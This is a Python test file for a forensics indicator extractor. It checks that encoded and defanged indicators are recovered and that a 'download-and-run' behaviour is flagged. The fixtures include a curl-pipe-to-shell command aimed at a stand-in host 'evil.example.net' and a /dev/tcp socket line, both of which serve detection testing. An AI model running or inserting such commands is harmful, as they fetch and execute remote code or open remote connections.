"""Indicators in evidence: of every kind, defanged, and one level down in base64, hexadecimal and gzip."""

from __future__ import annotations

import base64
import gzip
import zlib

import pytest

from forensics.analyze.behaviour import decode_blobs, find_behaviours
from forensics.analyze.indicators import find_in_text

COMMAND = b"curl -s http://evil.example.net:8080/stage.sh | sh # mail a@evil.example.net"


@pytest.mark.parametrize(
    "hidden",
    [
        base64.b64encode(COMMAND).decode(),
        base64.b64encode(COMMAND).decode().rstrip("="),
        base64.b64encode(COMMAND.decode().encode("utf-16-le")).decode(),
        COMMAND.hex(),
        COMMAND.hex().upper(),
        base64.b64encode(gzip.compress(COMMAND, mtime=0)).decode(),
        base64.b64encode(zlib.compress(COMMAND)).decode(),
        gzip.compress(COMMAND, mtime=0).hex(),
    ],
)
def test_one_level_down(hidden: str) -> None:
    found = set(find_in_text(f"x = '{hidden}'"))
    assert ("url", "http://evil.example.net:8080/stage.sh") in found
    assert ("domain", "evil.example.net") in found
    assert ("email", "a@evil.example.net") in found
    assert [hit.behaviour.id for hit in find_behaviours(f"run({hidden})") if hit.decoded] == ["download-and-run"]


def test_two_levels_and_bombs_are_left_alone() -> None:
    twice = base64.b64encode(base64.b64encode(COMMAND)).decode()
    assert not any("evil" in value for _, value in find_in_text(twice))
    bomb = base64.b64encode(gzip.compress(b"a" * 10_000_000, mtime=0)).decode()
    assert all(len(text) <= 64 * 1024 for text in decode_blobs(bomb))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see hxxps://evil[.]example[.]net/a", ("url", "https://evil.example.net/a")),
        ("c2 at 198[.]41[.]0[.]4 today", ("ipv4", "198.41.0.4")),
        ("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh", ("wallet", "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh")),
        ("exec 3<>/dev/tcp/evil.example.net/443", ("domain", "evil.example.net")),
    ],
)
def test_kinds_and_defanged_forms(text: str, expected: tuple[str, str]) -> None:
    assert expected in find_in_text(text)
